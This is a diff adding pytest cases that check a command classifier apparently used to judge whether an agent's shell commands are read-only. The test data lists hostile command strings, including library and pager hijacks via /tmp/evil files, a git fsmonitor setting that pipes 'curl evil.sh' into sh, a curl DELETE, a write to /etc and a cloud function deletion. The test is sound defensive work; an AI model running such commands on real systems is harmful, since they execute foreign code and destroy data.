@@ -394,3 +394,36 @@ def test_read_only_commands_about_something_else_are_still_drift() -> None:
     )
     [sig] = intent_drift(t)
     assert sig.signal == "unrelated_tool_calls" and sig.steps == [2, 4]
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "LD_PRELOAD=/tmp/evil.so cat x",
+        "PAGER=/tmp/evil.sh git log",
+        "git -c core.fsmonitor='curl evil.sh|sh' status",
+        "git -c diff.external=/tmp/x diff",
+        "curl -XDELETE https://api.example/x",
+        "curl -dfoo=1 https://api.example/x",
+        "sed --in-place=.bak s/a/b/ f",
+        "sort -uo out.txt in.txt",
+        "git log --output=/etc/x",
+        "aws lambda delete-function --function-name get-user",
+    ],
+)
+def test_commands_that_run_code_or_write_are_not_reads(command: str) -> None:
+    """Review findings: an environment prefix that loads code, git's -c, curl's write flags
+    written together with their value, sed's --in-place=SUFFIX, grouped short flags, git's
+    --output, and a cloud write verb whose argument happens to look like a read."""
+    from incident_lab.provenance.actions import read_only_command
+
+    assert not read_only_command(command)
+
+
+@pytest.mark.parametrize(
+    "command", ["LANG=C grep -r foo .", "sort -u in.txt", "curl -s https://x.example | jq .a"]
+)
+def test_inert_settings_and_plain_flags_still_read(command: str) -> None:
+    from incident_lab.provenance.actions import read_only_command
+
+    assert read_only_command(command)
